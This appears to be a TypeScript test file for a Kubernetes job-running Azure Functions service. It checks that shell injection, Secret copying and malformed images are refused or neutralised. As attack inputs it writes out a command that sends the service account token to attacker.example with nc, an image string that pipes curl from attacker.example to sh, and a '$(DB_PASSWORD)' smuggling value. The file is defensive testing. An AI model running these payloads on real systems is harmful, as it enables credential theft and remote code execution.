import { HttpRequest, type HttpResponseInit, InvocationContext } from '@azure/functions';
import type { V1Job } from '@kubernetes/client-node';
import { beforeEach, describe, expect, it } from 'vitest';

import { loadConfig } from '../../src/config.js';
import { ALLOW_ENV_ANNOTATION } from '../../src/core/consent.js';
import type { JobRunInput } from '../../src/core/schemas.js';
import { getRun } from '../../src/functions/getRun.js';
import { listJobs } from '../../src/functions/listJobs.js';
import { startJobRun } from '../../src/functions/startJobRun.js';
import { createRun } from '../../src/runs/submit.js';
import { createServices, setServices } from '../../src/services.js';
import { FakeDurableClient } from '../fakes/durable-client.js';
import { FakeKube } from '../fakes/kube.js';

/**
 * Issue 21 items 2, 3 and 10 through the real handlers over an in-memory cluster: a caller value that the
 * kubelet's `$(NAME)` expansion would turn into shell code or a Secret's copy, and a fallback image that is no
 * image reference. Each attack is refused before anything is started, or made harmless in the Job written.
 */
const t0 = new Date('2026-11-23T10:00:00Z');
const BASE = 'https://jobs.example.net/api';
const CLUSTERS = JSON.stringify([{ alias: 'dev', type: 'kubeconfig', kubeconfigPath: '/nonexistent/kubeconfig', namespaces: ['batch'] }]);
const ATTACK = 'x; cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc attacker.example 80';

let kube: FakeKube;
let client: FakeDurableClient;
let suffix = 0;
const context = () => new InvocationContext({ functionName: 'test', invocationId: 'inv-1', logHandler: () => undefined });

function useSettings(settings: Record<string, string> = {}): void {
  setServices(createServices(loadConfig({ CLUSTERS, ...settings }), { gatewayFactory: () => kube, newSuffix: () => `abcdefg${String(suffix++).padStart(3, '0')}`, now: () => t0 }));
}

/** The documented pattern: the command substitutes a parameter with Kubernetes' `$(NAME)`. */
function reportJob(name: string, annotations: Record<string, string> = {}): V1Job {
  return {
    apiVersion: 'batch/v1',
    kind: 'Job',
    metadata: { name, namespace: 'batch', uid: `u-${name}`, creationTimestamp: t0, annotations },
    spec: {
      template: {
        spec: {
          restartPolicy: 'Never',
          containers: [
            {
              name: 'main',
              image: 'busybox:1.36',
              command: ['sh', '-c', 'echo report for $(REPORT_DATE)'],
              env: [
                { name: 'REPORT_DATE', value: 'today' },
                { name: 'GREETING', value: 'cost $$5' },
                { name: 'DB_PASSWORD', valueFrom: { secretKeyRef: { name: 'db', key: 'password' } } },
              ],
            },
          ],
        },
      },
    },
  };
}

function post(name: string, body: unknown, query = ''): Promise<HttpResponseInit> {
  const request = new HttpRequest({
    method: 'POST',
    url: `${BASE}/jobs/batch/${name}/runs${query}`,
    headers: { 'content-type': 'application/json' },
    params: { namespace: 'batch', name },
    body: { string: JSON.stringify(body) },
  });
  return startJobRun(request, client, context());
}
const problem = (r: HttpResponseInit) => r.jsonBody as { title: string; detail: string };
const runIdOf = (r: HttpResponseInit) => (r.jsonBody as { runId: string }).runId;

beforeEach(() => {
  kube = new FakeKube().addJob(reportJob('report')).addJob(reportJob('report-any', { [ALLOW_ENV_ANNOTATION]: '*' })).addJob(reportJob('report-named', { [ALLOW_ENV_ANNOTATION]: 'REPORT_DATE' }));
  client = new FakeDurableClient();
  suffix = 0;
  useSettings();
});

describe('shell injection through $(NAME) in the command', () => {
  it.each(['report', 'report-any'])('a value for REPORT_DATE on %s is a 400 EnvNotAllowed and no run starts', async (source) => {
    const response = await post(source, { REPORT_DATE: ATTACK });
    expect(response.status).toBe(400);
    expect(problem(response).title).toBe('EnvNotAllowed');
    expect(problem(response).detail).toContain('"REPORT_DATE" is substituted into the command or args of Job');
    expect(client.startCount).toBe(0);
  });

  it('is allowed where the source names it', async () => {
    expect((await post('report-named', { REPORT_DATE: '2026-12-01' })).status).toBe(202);
  });

  it('the submit activity checks again: a source that began substituting a name after the start gets no Job', async () => {
    const started = await post('report', { GREETING: 'hi' });
    expect(started.status).toBe(202);
    const input = client.instances.get(runIdOf(started))?.input as JobRunInput;
    // The source's owner changes the command to substitute GREETING between the start and the submit.
    const changed = reportJob('report');
    const main = changed.spec?.template.spec?.containers[0];
    if (main) main.command = ['sh', '-c', 'echo $(GREETING)'];
    kube = new FakeKube().addJob(changed);
    useSettings();
    const result = await createRun(kube, input.request, null, t0, loadConfig({ CLUSTERS }).runPolicy);
    expect(result.outcome).toBe('rejected');
    expect(result.snapshot.reason).toBe('EnvNotAllowed');
    expect(kube.jobs.has(`batch/${input.request.runId}`)).toBe(false);
  });

  it('discovery lists REPORT_DATE in commandParams, not where allow-env names it', async () => {
    const response = await listJobs(new HttpRequest({ method: 'GET', url: `${BASE}/jobs?namespace=batch` }), context());
    const items = (response.jsonBody as { items: { name: string; commandParams: string[]; params: Record<string, string> }[] }).items;
    expect(Object.fromEntries(items.map((i) => [i.name, i.commandParams]))).toEqual({ report: ['REPORT_DATE'], 'report-any': ['REPORT_DATE'], 'report-named': [] });
    // A stored `$$` is shown as the `$` the process sees, the value a caller sends to get the same.
    expect(items.find((i) => i.name === 'report')?.params.GREETING).toBe('cost $5');
  });
});

describe('a Secret copied through $(NAME) in a value', () => {
  it('the Job holds the value escaped, and the run shows the literal value the process sees', async () => {
    const started = await post('report', { GREETING: '$(DB_PASSWORD)' });
    expect(started.status).toBe(202);
    const input = client.instances.get(runIdOf(started))?.input as JobRunInput;
    expect(input.request.overrides).toEqual({ GREETING: '$(DB_PASSWORD)' });
    const result = await createRun(kube, input.request, null, t0, loadConfig({ CLUSTERS }).runPolicy);
    expect(result.outcome).toBe('submitted');
    const job = kube.jobs.get(`batch/${input.request.runId}`);
    expect(job?.spec?.template.spec?.containers[0]?.env?.find((e) => e.name === 'GREETING')).toEqual({ name: 'GREETING', value: '$$(DB_PASSWORD)' });

    const status = await getRun(new HttpRequest({ method: 'GET', url: `${BASE}/runs/${input.request.runId}`, params: { runId: input.request.runId } }), client, context());
    expect((status.jsonBody as { parameters: unknown }).parameters).toEqual({ GREETING: '$(DB_PASSWORD)' });
  });

  it('with DISCOVERY_SHOW_ENV_VALUES=false the run shows the names only', async () => {
    useSettings({ DISCOVERY_SHOW_ENV_VALUES: 'false' });
    const started = await post('report', { GREETING: 'hello' });
    const status = await getRun(new HttpRequest({ method: 'GET', url: `${BASE}/runs/${runIdOf(started)}`, params: { runId: runIdOf(started) } }), client, context());
    expect((status.jsonBody as { parameters: unknown }).parameters).toEqual({ GREETING: null });
  });
});

describe('a malformed fallback image', () => {
  it.each([
    { name: 'a shell line', image: 'busybox;curl attacker.example|sh' },
    { name: 'upper case', image: 'docker.io/library/BusyBox:1' },
    { name: 'a scheme', image: 'https://docker.io/library/busybox' },
    { name: 'a bad digest', image: 'docker.io/library/busybox@sha256:abc' },
    { name: 'empty', image: '' },
  ])('$name is a 400 InvalidImageReference at the start route, and nothing starts', async ({ image }) => {
    useSettings({ FALLBACK_IMAGES: 'docker.io/library/' });
    const response = await post('missing', {}, `?image=${encodeURIComponent(image)}`);
    expect(response.status).toBe(400);
    expect(problem(response).title).toBe('InvalidImageReference');
    expect(problem(response).detail).toContain('is not an image reference');
    expect(client.startCount).toBe(0);
  });

  it('a well-formed allowed one still starts', async () => {
    useSettings({ FALLBACK_IMAGES: 'docker.io/library/' });
    expect((await post('missing', {}, '?image=docker.io/library/busybox:1.36')).status).toBe(202);
  });
});
